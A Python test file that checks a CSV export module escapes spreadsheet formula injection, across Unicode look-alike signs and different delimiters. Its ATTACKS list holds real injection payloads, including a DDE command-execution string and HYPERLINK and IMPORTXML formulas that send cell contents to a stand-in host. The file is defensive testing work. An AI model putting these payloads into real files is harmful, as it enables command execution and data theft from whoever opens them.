"""No spreadsheet finds a formula in our files, whichever mark it takes for the end of a cell."""

import csv
import io
import re
import time
import unicodedata

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from intakebot.domain.cells import csv_text, plain, safe

ATTACKS = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\tx", "\rx", " =1", "\u00a0=1", "\ufeff=1", "\u200b@x", "\x00=1", "＝1+1", "＋1",
    "－1", "＠SUM(1)", "﹦1", "⁼1", "₊1", "−1", '=cmd|" /C calc"!A0', "=HYPERLINK(\"http://e.example/?\"&A1)", '"=1+1', "'=1", "'' =1",
    '=IMPORTXML(CONCAT("http://e.example/",A1),"//a")', "DDE;=1", "x;=1;y", 'x;"=1;y', "x\n=1", "x\t+1", "x; @y", "x;;=1", "x;'=1", "\r\n=1",
]  # fmt: skip
SIGNS = st.sampled_from([*"=+-@;,\t\r\n'\" a1", "＝", "－", "\u00a0", "\ufeff", "\u200b", "\x00", "−", "⁺"])
CELLS = st.text(SIGNS, max_size=12) | st.sampled_from(ATTACKS) | st.text(max_size=20)
_FORMULA = set("=+-@−⁻₋") | {chr(n) for n in range(0x110000) if unicodedata.normalize("NFKC", chr(n)) in set("=+-@")}


def _calculates(cell: str) -> bool:
    """Whether what a spreadsheet reads begins a formula, were it as lenient as can be."""
    bare = cell.lstrip("".join(map(chr, range(0x21))) + '\x7f\u00a0\u00ad\u200b\u200c\u200d\u2060\ufeff"')
    return bare[:1] in _FORMULA if bare else False


@pytest.mark.parametrize("attack", ATTACKS)
def test_every_known_attack_gets_an_apostrophe(attack: str) -> None:
    assert safe(attack) != attack
    assert not _calculates(safe(attack))
    assert plain(safe(attack)) == attack


def test_every_letter_that_is_the_same_as_a_sign_is_known() -> None:
    assert [sign for sign in _FORMULA if safe(f"{sign}1") != f"'{sign}1"] == []


@pytest.mark.parametrize(
    "cell", ["Nowak, Anna", "a-b", "1+1", "x = y", "anna@customer.example", "2026-11-22", "0.5", "a;b", "'t Hooft", ""]
)
def test_ordinary_words_stay(cell: str) -> None:
    assert safe(cell) == plain(cell) == cell


@example(row=['x;"=1;y'])
@given(row=st.lists(CELLS, min_size=1, max_size=4))
def test_no_reading_of_a_file_finds_a_formula(row: list[str]) -> None:
    text = csv_text(["row"] * len(row), [row])
    for delimiter in (",", ";", "\t"):
        cells = [cell for line in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in line]
        assert [cell for cell in cells if _calculates(cell)] == []
    assert [piece for piece in re.split(r"[;\t\r\n]", text) if _calculates(piece)] == []


@given(cell=CELLS)
def test_what_was_meant_comes_back(cell: str) -> None:
    assert plain(safe(cell)) == cell


@pytest.mark.parametrize("blank", ["\n", "\t'", "; ", "'", "x;"])
def test_long_cells_take_no_long_time(blank: str) -> None:
    cell = blank * 200_000
    begun = time.process_time()
    assert plain(safe(cell)) == cell
    assert time.process_time() - begun < 2
